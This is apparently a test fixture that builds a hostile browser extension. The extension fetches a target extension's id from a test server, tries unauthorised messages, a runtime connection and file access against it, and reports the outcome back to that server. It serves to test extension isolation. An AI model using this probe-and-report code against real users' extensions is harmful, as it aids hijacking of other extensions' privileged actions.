import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

/**
 * The folder of an extension that asks the stranger for the id of its victim, tries there what an extension may
 * (messages, a connection, files), and tells the stranger what came of it.
 */
export function otherExtension(stranger: string): string {
  const folder = mkdtempSync(path.join(tmpdir(), 'other-extension-'));
  const manifest = {
    manifest_version: 3,
    name: 'Other',
    version: '1.0',
    background: { service_worker: 'other.js', scripts: ['other.js'] },
    browser_specific_settings: { gecko: { id: 'other@other.example' } },
    host_permissions: ['http://*/*'],
  };
  writeFileSync(path.join(folder, 'manifest.json'), JSON.stringify(manifest));
  writeFileSync(
    path.join(folder, 'other.js'),
    `const api = globalThis.browser ?? chrome;
const messages = ['visit.again', { name: 'orders.restore', args: [['a']] }, { name: 'visit.start', args: ['http://a.localhost/'] }, { name: 'settings.save', args: [{ notifications: false }] }];
let victim = '';
const answered = (message) => Promise.race([
  api.runtime.sendMessage(victim, message).then((answer) => answer !== undefined, () => false),
  new Promise((resolve) => setTimeout(resolve, 3000, false)),
]);
const connected = () => new Promise((resolve) => {
  const port = api.runtime.connect(victim);
  port.onMessage.addListener(() => resolve(true));
  port.onDisconnect.addListener(() => resolve(false));
  setTimeout(resolve, 3000, false);
});
const opened = () => fetch('chrome-extension://' + victim + '/popup.html').then(() => true, () => false);
(async () => {
  while (victim === '') victim = await fetch('${stranger}/whom').then((answer) => (answer.ok ? answer.text() : ''));
  const answers = await Promise.all([...messages.map(answered), connected()]);
  const said = { answers: answers.filter(Boolean).length, files: Number(await opened()), tried: answers.length + 1 };
  await fetch('${stranger}/said?said=' + encodeURIComponent(JSON.stringify(said)), { mode: 'no-cors' });
})();
`,
  );
  return folder;
}
